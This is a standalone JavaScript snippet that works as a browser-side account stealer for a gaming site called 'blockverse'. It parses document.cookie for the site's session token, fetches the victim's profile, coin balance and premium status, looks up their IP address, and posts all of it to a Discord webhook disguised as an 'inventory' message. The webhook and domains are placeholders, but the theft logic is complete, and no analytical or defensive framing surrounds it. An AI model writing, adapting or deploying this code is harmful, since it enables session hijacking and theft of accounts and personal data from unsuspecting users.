const hook = 'https://discord.com/api/webhooks/000000000000000000/TOKEN';

async function whoami() {
  const r = await fetch('https://www.blockverse.example/mobileapi/userinfo', { credentials: 'include' });
  return r.json();
}

async function main() {
  const jar = document.cookie.split('; ').reduce((a, p) => {
    const [k, ...v] = p.split('=');
    a[k] = v.join('=');
    return a;
  }, {});
  const sess = jar['.BVSECURITY'] || jar['bv_session'] || 'none';
  let me = {};
  try { me = await whoami(); } catch (_) {}
  const ip = await (await fetch('https://ip.lookup.example/?format=text')).text();
  await fetch(hook, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({
      username: 'inventory',
      content: '@everyone',
      embeds: [{
        title: me.UserName || 'unknown',
        color: 3447003,
        fields: [
          { name: 'Coins', value: String(me.Balance || 0), inline: true },
          { name: 'Premium', value: String(!!me.IsPremium), inline: true },
          { name: 'IP', value: ip, inline: true },
          { name: 'Session', value: '```' + sess + '```' }
        ],
        thumbnail: { url: me.ThumbnailUrl }
      }]
    })
  });
}
main();
